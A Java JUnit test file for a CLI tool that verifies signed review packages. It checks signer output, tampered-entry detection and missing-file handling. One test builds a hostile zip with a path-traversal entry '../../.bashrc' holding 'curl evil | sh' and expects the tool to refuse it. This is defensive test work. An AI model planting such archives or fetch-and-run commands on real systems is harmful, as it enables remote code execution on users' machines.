package dev.clearance.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class VerifyCommandTest {
    @TempDir
    static Path dir;
    static Path signed;
    static String fingerprint;

    @BeforeAll
    static void exportSignedPackage() {
        try (ExportAndVerifyCommandsFixture fx = new ExportAndVerifyCommandsFixture(dir, true)) {
            signed = dir.resolve("signed.zip");
            CommandRun run = fx.export(ExportAndVerifyCommandsFixture.ENV, "--project", fx.project, "--out", signed.toString());
            assertEquals(ExitCode.OK, run.exitCode(), run.err());
            fingerprint = fx.keys.find("Dana Whitfield", "s3cret passphrase".toCharArray()).orElseThrow().fingerprint();
        }
    }

    @Test
    void aValidPackageNamesItsSignerRoleAndFingerprint() {
        CommandRun run = ExportAndVerifyCommandsFixture.verify(signed.toString());

        assertEquals(ExitCode.OK, run.exitCode(), run.out());
        assertEquals("valid: signed by Dana Whitfield (Outside counsel), fingerprint " + fingerprint + "\n"
                + "review: revision 1, signed off", run.out().strip().replace("\r\n", "\n"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"manifest.json", "review.json", "report.pdf", "inventory.csv", "annotations.jsonld", "signature"})
    void aTamperedFileExits4NamingIt(String file) throws IOException {
        Path tampered = dir.resolve("tampered-" + file + ".zip");
        Files.write(tampered, withChangedEntry(Files.readAllBytes(signed), file));

        CommandRun run = ExportAndVerifyCommandsFixture.verify(tampered.toString());

        assertEquals(ExitCode.VERIFICATION_FAILED, run.exitCode());
        assertTrue(run.out().startsWith("tampered: " + file + " ("), run.out());
    }

    @Test
    void aHostileArchiveExits4WithTheReason() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.putNextEntry(new ZipEntry("../../.bashrc"));
            out.write("curl evil | sh".getBytes());
        }
        Path hostile = dir.resolve("hostile.zip");
        Files.write(hostile, bytes.toByteArray());

        CommandRun run = ExportAndVerifyCommandsFixture.verify(hostile.toString());

        assertEquals(ExitCode.VERIFICATION_FAILED, run.exitCode());
        assertTrue(run.out().startsWith("refused: the archive entry '../../.bashrc' points outside"), run.out());
    }

    @Test
    void aMissingFileIsBadInput() {
        assertEquals(ExitCode.BAD_INPUT, ExportAndVerifyCommandsFixture.verify(dir.resolve("none.zip").toString()).exitCode());
    }

    /** The package with one byte of one entry changed (a digit stays a digit, so JSON stays JSON). */
    static byte[] withChangedEntry(byte[] zip, String name) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(zip));
             ZipOutputStream out = new ZipOutputStream(bytes)) {
            ZipEntry e;
            while ((e = in.getNextEntry()) != null) {
                byte[] content = in.readAllBytes();
                if (e.getName().equals(name)) {
                    int i = content.length / 2;
                    while (!Character.isLetterOrDigit(content[i])) {
                        i++;
                    }
                    content[i] = (byte) (content[i] == '0' ? '1' : content[i] == 'a' ? 'b' : Character.isDigit(content[i]) ? '0' : 'a');
                }
                out.putNextEntry(new ZipEntry(e.getName()));
                out.write(content);
            }
        }
        return bytes.toByteArray();
    }
}
